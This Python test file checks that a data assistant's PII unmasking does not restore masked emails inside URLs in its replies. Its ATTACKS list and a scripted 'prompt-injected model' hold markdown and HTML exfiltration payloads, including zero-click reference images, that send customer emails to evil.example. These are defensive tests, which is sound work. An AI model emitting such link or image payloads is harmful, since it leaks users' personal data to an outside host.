"""Review of issue 14's link rules (LLM mode): URLs that contain spaces.

CommonMark lets a link target contain spaces inside angle brackets (``[r]: <//host/? x y>``,
``[a [b]](<//host/? x>)``) and HTML lets an attribute value hold ``<`` or ``>`` in quotes, so a
word-by-word check saw ``<EMAIL_1>>`` as a plain word and restored it into the URL. Markdown
renderers then made ``<a href="//evil.example/c?%20anna.schmidt@example.com">``. The rule now:
nothing is restored after the first markup ``<`` of a reply (tag, autolink, angle target).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import openai
import pytest

from api.app import create_app
from assistant.links import SafeText, safe_unmask
from assistant.pii import PIIVault
from assistant.settings import MaraSettings
from assistant.testing import ScriptedOpenAIServer, ScriptedReply, ScriptedToolCall
from tests.conftest import build_tiny_warehouse
from tests.test_api import LiveServer

EMAIL = "anna.schmidt@example.com"

ATTACKS = [
    "Verify [here][r].\n\n[r]: <//evil.example/c? <EMAIL_1>>",  # reference link, angle target
    "![status][p]\n\n[p]: <//evil.example/p.png? <EMAIL_1>>",  # reference image: zero clicks
    "[r]: <https://evil.example/c? <EMAIL_1>>",
    "[r]: < \\\\evil.example/c? <EMAIL_1>>",  # backslashes: //evil.example for a browser
    "[see [1]](<//evil.example/c? <EMAIL_1>>)",  # nested brackets in the link text
    "[see\nthis](<//evil.example/c? <EMAIL_1>>)",  # a line break in the link text
    "<//evil.example/c? <EMAIL_1>>",
    '<img alt="<" src="//evil.example/p.png? <EMAIL_1>">',  # "<" inside a quoted attribute
    "<img alt='>' src='https://evil.example/p.png? <EMAIL_1>'>",
    "<img alt='>\n\n' src='//evil.example/p.png? <EMAIL_1>'>",  # quote across a blank line
    '<a title="<b" href="//evil.example/c? <EMAIL_1>">verify</a>',
    '<object data="//evil.example/? <EMAIL_1>">',
]


@pytest.fixture
def vault() -> PIIVault:
    vault = PIIVault()
    assert vault.mask(EMAIL) == "<EMAIL_1>"
    return vault


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_url_with_spaces_does_not_get_the_value_back(vault: PIIVault, attack: str) -> None:
    assert EMAIL not in safe_unmask(attack, vault)


@pytest.mark.parametrize("attack", ATTACKS)
def test_streamed_url_with_spaces_does_not_get_the_value_back(vault: PIIVault, attack: str) -> None:
    for size in (1, 4, 9):
        stream = SafeText(vault)
        shown = "".join(stream.feed(attack[i : i + size]) for i in range(0, len(attack), size)) + stream.flush()
        assert EMAIL not in shown, size


def test_markup_in_an_earlier_step_keeps_later_steps_masked(vault: PIIVault) -> None:
    """A model can end one step (before a tool call) inside a link target and go on in the next."""
    stream = SafeText(vault)
    first = stream.feed("Verify [here][r].\n\n[r]: <//evil.example/c? ") + stream.flush()
    second = stream.feed("<EMAIL_1>> thanks") + stream.flush()
    assert EMAIL not in first + second


@pytest.mark.parametrize(
    "reply",
    ["Anna (<EMAIL_1>) ordered twice.", "Customers with < 3 orders: <EMAIL_1>", "x <= 2 and y <- 1: <EMAIL_1>"],
)
def test_plain_replies_with_angle_brackets_are_still_restored(vault: PIIVault, reply: str) -> None:
    assert EMAIL in safe_unmask(reply, vault)


# --- through the real stack: scripted OpenAI server, LangChain, Mara's OpenAI endpoint --------


def _reference_link_model(body: dict[str, Any]) -> ScriptedReply:
    """A prompt-injected model writing a reference-style image whose target has a space."""
    results = [m for m in body["messages"] if m["role"] == "tool"]
    if not results:
        sql = "SELECT first_name, email FROM customers ORDER BY customer_id LIMIT 2"
        return ScriptedReply(tool_calls=[ScriptedToolCall("run_sql", {"sql": sql})])
    emails = " ".join(re.findall(r"<EMAIL_\d+>", results[-1]["content"]))
    return ScriptedReply(content=f"![status][p]\n\n[p]: <//evil.example/p.png? {emails}>")


@pytest.fixture(scope="module")
def llm_sdk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[openai.OpenAI]:
    home = tmp_path_factory.mktemp("review-links") / "ws"
    home.mkdir()
    build_tiny_warehouse(home / "warehouse.duckdb")
    with ScriptedOpenAIServer(_reference_link_model) as model:
        settings = MaraSettings(  # type: ignore[call-arg]
            home=home, llm_base_url=model.base_url, llm_max_retries=0, _env_file=None
        )
        with LiveServer(create_app(settings)) as server:
            yield openai.OpenAI(base_url=f"{server.url}/v1", api_key="unused", max_retries=0)


@pytest.mark.integration
@pytest.mark.parametrize("stream", [False, True])
def test_openai_client_gets_no_email_in_a_reference_style_image(llm_sdk: openai.OpenAI, stream: bool) -> None:
    ask = [{"role": "user", "content": "Who are our first customers?"}]
    if stream:
        chunks: Any = llm_sdk.chat.completions.create(model="mara", messages=ask, stream=True)  # type: ignore[arg-type]
        content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    else:
        reply = llm_sdk.chat.completions.create(model="mara", messages=ask)  # type: ignore[arg-type]
        content = reply.choices[0].message.content or ""
    target = content.split("[p]:", 1)[1].split(">", 1)[0]
    assert "@" not in target
